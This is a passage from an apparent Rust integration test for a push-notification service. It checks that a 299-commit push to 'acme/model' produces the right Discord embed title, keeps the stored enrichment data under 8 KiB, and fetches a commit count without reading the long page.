    app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
    let (id, done) = delivered(
        &app,
        &one_push("acme/model", Some(&sha(13, 0)), &sha(13, 299)),
    )
    .await;
    assert_eq!(done[0].status, Status::Sent);
    let title = app.discord.posts()[0].body["embeds"][0]["title"].clone();
    assert_eq!(title, "299 commits to `main` of **acme/model** by lee");
    let size: i64 =
        sqlx::query_scalar("SELECT length(facts) FROM event_enrichment WHERE event_id = ?")
            .bind(id)
            .fetch_one(&app.store.pool)
            .await
            .unwrap();
    assert!(size <= 8 * 1024, "{size} bytes stored");
    // The long page was asked, left unread, and the count checked instead.
    let asked: Vec<String> = hub.requests().into_iter().map(|r| r.path).collect();
    assert!(asked.iter().any(|p| p.ends_with("limit=1000")), "{asked:?}");
    assert!(
        asked.iter().any(|p| p.ends_with("limit=1&p=299")),
        "{asked:?}"
    );
}
